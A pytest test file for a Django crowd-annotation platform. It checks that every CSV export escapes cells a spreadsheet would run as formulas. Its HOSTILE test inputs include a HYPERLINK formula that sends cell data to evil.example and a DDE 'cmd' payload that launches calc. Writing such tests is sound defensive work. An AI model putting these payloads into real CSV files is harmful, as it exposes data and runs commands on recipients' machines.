"""No CSV the platform writes has a cell a spreadsheet would run (OWASP, "CSV Injection").

Each writer is given text that starts like a formula, in every place a person can put text (labels,
items, workers' answers, batch inputs, claims); every cell of every file is read back.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest
from django.core.management import call_command

from config.csv_files import FORMULA_STARTS, csv_lines

PROJECT = Path(__file__).resolve().parents[2]
NUMBER = re.compile(r"-?\d+(\.\d*)?(e[-+]?\d+)?")  # a negative number is a number, not a formula
HOSTILE = ['=HYPERLINK("https://evil.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(A1)"]


def cells(text: str) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def assert_no_formula(text: str, hostile: list[str]) -> None:
    read = cells(text)
    assert read, "the writer wrote nothing"
    assert [cell for cell in read if cell.startswith(FORMULA_STARTS) and not NUMBER.fullmatch(cell)] == []
    for value in hostile:  # kept, as text a spreadsheet shows
        assert any(cell == "'" + value or ("'" + value) in cell for cell in read), value


def test_formula_cells_become_text_and_numbers_stay_numbers() -> None:
    rows = [[value, -1, 0.5] for value in HOSTILE] + [["\tx", None, "\r"]]
    text = "".join(csv_lines(["a", "b", "c"], rows))

    assert_no_formula(text, HOSTILE)
    assert cells(text)[-3:] == ["'\tx", "", "'\r"] and cells(text)[4:6] == ["-1", "0.5"]


def test_no_module_writes_csv_but_the_one_writer() -> None:
    """Every CSV goes through config.csv_files (the label outputs, exports and API downloads call it)."""
    writers = re.compile(r"\.to_csv\(|csv\.writer\(|csv\.DictWriter\(")
    sources = [
        path for top in ("accounts", "aggregation", "annotation", "api", "backups", "config", "corpus",
                         "crawler", "export", "home", "operations", "pipeline", "search")
        for path in (PROJECT / top).rglob("*.py")
    ]  # fmt: skip
    assert len(sources) > 100
    others = [str(p.relative_to(PROJECT)) for p in sources if writers.search(p.read_text(encoding="utf-8"))]
    assert others == ["config/csv_files.py"]


def _input_csv(path: Path, header: list[str], rows: list[list[str]]) -> Path:
    """A file given to the platform (written by the test, as anyone could)."""
    with path.open("w", newline="") as handle:
        csv.writer(handle).writerows([header, *rows])
    return path


def _labels(tmp_path: Path) -> Path:
    votes = {"w1": "yes", "w2": "yes", "w3": "no"}
    rows = [[item, worker, label] for item in HOSTILE for worker, label in votes.items()]
    return _input_csv(tmp_path / "labels.csv", ["item", "worker", "label"], rows)


def aggregate_labels(tmp_path: Path) -> str:
    out = tmp_path / "out.csv"
    call_command("aggregate_labels", str(_labels(tmp_path)), "--labels", "yes,no", "--out", str(out))
    return out.read_text()


def replay_labels(tmp_path: Path) -> str:
    out = tmp_path / "out.csv"
    call_command("replay_labels", str(_labels(tmp_path)), "--labels", "yes,no", "--policy", "fixed",
                 "--max-workers", "3", "--out", str(out))  # fmt: skip
    return out.read_text()


LABEL_WRITERS: dict[str, Callable[[Path], str]] = {
    "aggregate_labels": aggregate_labels,
    "replay_labels": replay_labels,
}


@pytest.mark.parametrize("writer", list(LABEL_WRITERS))
def test_label_outputs_have_no_formula_cell(tmp_path: Path, writer: str) -> None:
    assert_no_formula(LABEL_WRITERS[writer](tmp_path), HOSTILE)


@pytest.mark.django_db
def test_the_mturk_batch_results_have_no_formula_cell(tmp_path: Path, settings: Any) -> None:
    from annotation.work.jobs import publish_job
    from annotation.work.mturk_batches import import_mturk_template
    from tests.annotation.test_mturk_batches import CROWD, annotator, answer_every_row

    settings.WORKER_PSEUDONYM_KEY = "a-test-key-of-enough-length"
    rows = [["1", value, "2", "p"] for value in HOSTILE]
    batch = _input_csv(tmp_path / "batch.csv", ["cId", "claim", "pId", "perspective"], rows)
    job = publish_job(import_mturk_template(CROWD, batch, "stance", params={"workers_per_item": 1}).pk)
    answers = {"radio_group_1": "neither", "topic": "education", "keyword": "duty", "comment": HOSTILE[0]}
    assert answer_every_row(annotator("ann"), job, answers)
    out = tmp_path / "results.csv"

    call_command("export_mturk_batch", str(job.pk), "--out", str(out))

    assert_no_formula(out.read_text(), HOSTILE)


@pytest.mark.django_db
@pytest.mark.parametrize("rows", ["responses", "outcomes", "items"])
def test_api_downloads_have_no_formula_cell(settings: Any, rows: str) -> None:
    from aggregation.models import AggregationRun, ItemOutcome
    from tests.aggregation.jobdata import answer, keys, stance_job
    from tests.annotation.factories import make_corpus
    from tests.api.test_api import client_for

    settings.WORKER_PSEUDONYM_KEY = "export-tests-pseudonym-key-0123456789"
    job = stance_job(make_corpus(claims=2, perspectives=1))
    answer(job, {key: HOSTILE for key in keys(job)})  # labels as a free-text task would store them
    run = AggregationRun.objects.create(job=job, task_type="stance")
    for item in job.items.all():
        ItemOutcome.objects.create(item=item, job=job, run=run, counts=[2, 1], agreement=0.25,
                                   label=HOSTILE[0], reasons=["x"])  # fmt: skip
    job.items.update(group=HOSTILE[1])

    response = client_for("researcher").get(f"/api/jobs/{job.pk}/{rows}/?format=csv")

    assert response.status_code == 200
    text = b"".join(response.streaming_content).decode()
    assert_no_formula(text, {"responses": HOSTILE, "outcomes": HOSTILE[:1], "items": HOSTILE[1:2]}[rows])
